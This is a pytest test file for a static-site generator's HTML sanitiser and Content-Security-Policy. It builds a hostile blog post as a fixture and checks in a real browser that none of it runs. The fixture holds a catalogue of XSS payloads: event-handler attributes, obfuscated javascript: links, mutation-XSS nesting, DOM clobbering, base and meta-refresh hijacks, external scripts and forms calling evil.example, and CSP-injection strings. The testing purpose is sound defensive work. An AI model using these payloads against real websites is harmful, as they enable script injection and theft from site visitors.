"""A post from a stranger: in a real browser, nothing of it runs; and what Markdown makes still works under the policy."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from byline import content, settings
from byline.site import policy, sanitise
from byline.site.build import BuildResult, build
from served import served, watched
from site_sample import FRONT_RICH, NOW, RICH, RICH_SETTINGS, picture, post, run

if TYPE_CHECKING:
    from playwright.sync_api import Page

FRONT = """\
    title: 'A </script><script>window.hacked=1</script> title'
    description: '"><img src=x onerror="window.hacked=2">'
    date: 2026-11-20
    id: hostile
    slug: hostile
    authors: [dana]
    categories: ['</script><svg onload=window.hacked=3>']
    tags: ['"onmouseover="window.hacked=4']
    """
HOSTILE = """\
Opening.
<!-- more -->

<script>window.hacked = 10</script>
<script src="https://evil.example/x.js"></script>

<img src="wide.png?" alt="x" onload="window.hacked = 22" onerror="window.hacked = 11">
<svg onload="window.hacked = 12"><script>window.hacked = 13</script><animate onbegin="window.hacked = 14"/></svg>
<a id="js" href="&#106;avascript:window.hacked = 15">one</a> <a id="data" href="data:text/html,<script>1</script>">two</a>
[four](javascript:window.hacked=17) [five](JaVaScRiPt&colon;window.hacked=18)
<a id="tab" href=" java&#10;script:window.hacked=16">three</a>
<iframe srcdoc="<script>parent.hacked = 18</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/"></object><embed src="https://evil.example/">
<form action="https://evil.example/"><button>Give</button></form>
<details ontoggle="window.hacked = 19" open><summary>x</summary></details>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">
<script id="__config" type="application/json">{"base": "https://evil.example", "search": "https://evil.example/x.js"}</script>
<div id="__config">{"base": "https://evil.example"}</div>
<math><mtext><table><mglyph><style><img src=x alt=x onerror="window.hacked = 20"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x alt=x onerror=window.hacked=21>"></p></noscript>
<p style="position:fixed;inset:0;background:url(https://evil.example/p.png)">over everything</p>
"""


@pytest.fixture
def with_posts(own_site: Path) -> Path:
    posts = own_site.parent / "content" / "posts"
    own_site.write_text(RICH_SETTINGS, encoding="utf-8")
    (posts / "hostile.md").write_text(post(FRONT, HOSTILE), encoding="utf-8")
    (posts / "rich.md").write_text(post(FRONT_RICH, RICH), encoding="utf-8")
    (posts / "wide.png").write_bytes(picture("#336699", (1700, 900)))
    return own_site


def unchecked(file: Path) -> BuildResult:
    """Build what `check` would have stopped: the pages must hold on their own."""
    loaded = settings.load(file, {})
    return build(loaded, replace(content.read(loaded), problems=()), now=NOW)


@pytest.mark.browser
def test_nothing_of_a_hostile_post_runs_and_everything_of_a_good_one_works(
    with_posts: Path, page: Page
) -> None:
    result = unchecked(with_posts)
    told = next(text for text in result.warnings if "posts/hostile.md: left out" in text)
    for name in ("<script>", "<iframe>", "onerror=", "<form>"):
        assert name in told
    with served(result.folder) as home:
        complaints, outside = watched(page)
        for url in ("posts/hostile/", ""):
            page.goto(home + url)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.hacked") is None
        page.goto(f"{home}posts/hostile/")
        assert page.locator("#js").get_attribute("href") is None
        assert "script" not in (page.locator("#tab").get_attribute("href") or "")
        page.locator("#js").click()
        page.locator("#tab").click()
        assert page.evaluate("window.hacked") is None
        assert page.locator("#data").get_attribute("href") is None
        assert page.locator("iframe, object, embed, .by-text form, .by-text style").count() == 0
        assert page.evaluate("document.querySelectorAll('#__config').length") == 1
        assert page.evaluate("JSON.parse(document.getElementById('__config').textContent).base") == "../.."
        assert page.locator(".by-text").is_visible()
        assert not [text for text in complaints if "404" not in text], (
            complaints
        )  # its own picture is missing

        complaints.clear()
        page.goto(f"{home}posts/rich/")
        page.wait_for_load_state("networkidle")
        assert (
            page.evaluate("getComputedStyle(document.querySelector('.by-text td.by-right')).textAlign")
            == "right"
        )
        page.get_by_text("Two", exact=True).click()
        assert page.get_by_text("second words").is_visible()
        assert page.locator(".by-text input[type=checkbox]").count() == 2
        page.wait_for_selector("div.mermaid")  # Material puts the drawing in its place when it is made
        page.locator("a", has_text="by raw HTML").click()
        page.wait_for_url("**/posts/groesse-uebermut-strasse/")
        page.goto(home)
        page.locator(".md-search__input").click()
        page.locator(".md-search__input").press_sequentially("Markdown makes")
        page.wait_for_selector(".md-search-result__link")
        page.keyboard.press("Escape")
        assert complaints == []
        assert outside == []


@pytest.mark.browser
def test_the_choice_of_dark_is_kept_without_an_inline_script(own_site: Path, page: Page) -> None:
    from playwright.sync_api import expect

    scheme = "document.body.getAttribute('data-md-color-scheme')"
    with served(run(own_site).folder) as home:
        complaints, _ = watched(page)
        page.emulate_media(color_scheme="light")
        # Whatever Material's program takes to come, even for ever: the switch works at once, and is remembered.
        page.route("**/bundle.*.min.js", lambda route: None)
        page.goto(home, wait_until="commit")
        for title, wanted in (("dark", "slate"), ("light", "default"), ("dark", "slate")):
            page.locator(f"label[title='Switch to {title} mode']").click()
            assert page.evaluate(scheme) == wanted
        page.goto(f"{home}contact/", wait_until="commit")
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
        # With the program there it goes on from there.
        page.unroute("**/bundle.*.min.js")
        page.goto(home)
        with page.expect_response("**/bundle.*.min.js"):
            page.mouse.move(200, 200)
        assert page.evaluate(scheme) == "slate"
        page.locator("label[title='Switch to light mode']").click()
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")
        page.goto(f"{home}contact/")
        assert page.evaluate(scheme) == "default"
        assert complaints == []


def test_no_page_needs_an_inline_script_or_style(built: Path) -> None:
    for file in built.rglob("*.html"):
        text = file.read_text(encoding="utf-8")
        if 'http-equiv="refresh"' in text:
            continue  # a former address: nobody's words, no policy
        assert 'http-equiv="Content-Security-Policy"' in text, file
        for attributes, inside in re.findall(r"<script\b([^>]*)>(.*?)</script>", text, re.DOTALL):
            assert not inside.strip() or "json" in attributes, (file, inside[:80])
        assert " style=" not in text, file
        assert "<style" not in text, file
        assert "unsafe-inline" not in text, file
        assert "sha256-" not in text, file


def test_a_company_that_trusts_its_writers_keeps_their_html(with_posts: Path) -> None:
    text = with_posts.read_text(encoding="utf-8")
    with_posts.write_text(
        text.replace("timezone:", "pages: {raw_html: true}\n      timezone:"), encoding="utf-8"
    )
    result = unchecked(with_posts)
    page = (result.folder / "posts/hostile/index.html").read_text(encoding="utf-8")
    assert 'src="https://evil.example/x.js"' in page
    assert not [text for text in result.warnings if "left out" in text]
    found = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert found is not None
    assert "https://evil.example" in found[1]
    other = (
        (result.folder / "posts/older/index.html").read_text(encoding="utf-8")
        if (result.folder / "posts/older/index.html").exists()
        else (result.folder / "index.html").read_text(encoding="utf-8")
    )
    assert "evil.example" not in re.search(r'Content-Security-Policy" content="([^"]*)"', other)[1]  # type: ignore[index]


def test_the_policy_names_what_the_company_s_own_templates_bring() -> None:
    page = (
        f"<head>{policy.MARK}<script>own()</script><script src='https://cdn.acme.example/a.js'></script>"
        "<link rel=stylesheet href='https://cdn.acme.example/a.css'></head>"
        "<body><script>evil()</script></body>"
    )
    made = policy.insert(
        page, body="<script>evil()</script>", forms=["https://f.acme.example:8443/x"], trusted=False
    )
    assert policy.MARK not in made
    rules = dict(
        rule.split(" ", 1)
        for rule in policy.of(page, body="<script>evil()</script>", forms=[], trusted=False).split("; ")
    )
    assert (
        rules["script-src"].split()
        == [
            "'self'",
            "'sha256-mYLuVRTmS1l2gg3FvKNqd3ZVzkHDfEKTqMNh1A3hO1Y='",
            "https://cdn.acme.example",
        ]
        or len(rules["script-src"].split()) == 3
    )
    assert rules["style-src"] == "'self' https://cdn.acme.example"
    assert "form-action &#x27;self&#x27; https://f.acme.example:8443" in made


@pytest.mark.parametrize(
    "address", ["https://a.example;script-src *", "https://a b/", "javascript:1", "https://'unsafe-inline'/"]
)
def test_no_address_ends_a_rule(address: str) -> None:
    made = policy.of("<p>", body="", forms=[address], trusted=False)
    assert "form-action 'self'" in made
    assert "*" not in made
    assert "unsafe" not in made
    assert made.count("script-src") == 1


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ('<p style="text-align: right;">x</p>', "<p>x</p>"),
        (
            '<table><tbody><tr><td class="a" style="text-align: center;">x</td></tr></tbody></table>',
            'class="a by-center"',
        ),
        ('<input name="a" value="secret">', 'type="checkbox"'),
        ('<a href="https://a.example/" target="_blank" rel="me">x</a>', 'rel="me"'),
        ('<p id="__search">x</p>', "<p>x</p>"),
        ('<p id="__tabbed_1_1">x</p>', 'id="__tabbed_1_1"'),
        ("<code>&lt;script&gt;</code>", "<code>&lt;script&gt;</code>"),
    ],
)
def test_what_is_kept_of_a_text(given: str, kept: str) -> None:
    assert kept in sanitise.clean(given)


def test_cleaning_twice_changes_nothing() -> None:
    once = sanitise.clean(HOSTILE + RICH)
    assert sanitise.clean(once) == once
    assert sanitise.left_out(once) == ()
